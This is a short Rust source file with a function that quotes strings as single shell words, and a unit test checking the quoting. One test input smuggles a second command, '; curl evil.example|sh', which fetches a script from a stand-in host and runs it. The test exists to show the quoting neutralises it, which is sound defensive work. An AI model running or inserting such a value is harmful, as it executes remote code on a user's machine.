//! A word as a shell takes it: what is put into a command line, or printed in one to paste, stays one word.

/// One word for a shell, in quotes if it needs them.
pub fn shell_word(word: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-./:=@%+,".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_a_shell_would_read_otherwise_is_quoted() {
        for (word, written) in [
            ("/home/ada/src-1/a_b.rs", "/home/ada/src-1/a_b.rs"),
            ("", "''"),
            ("a b", "'a b'"),
            ("~/x", "'~/x'"),
            ("/tmp/x; curl evil.example|sh #", "'/tmp/x; curl evil.example|sh #'"),
            ("it's $(x)", r"'it'\''s $(x)'"),
            ("größe", "'größe'"),
        ] {
            assert_eq!(shell_word(word), written);
        }
    }
}
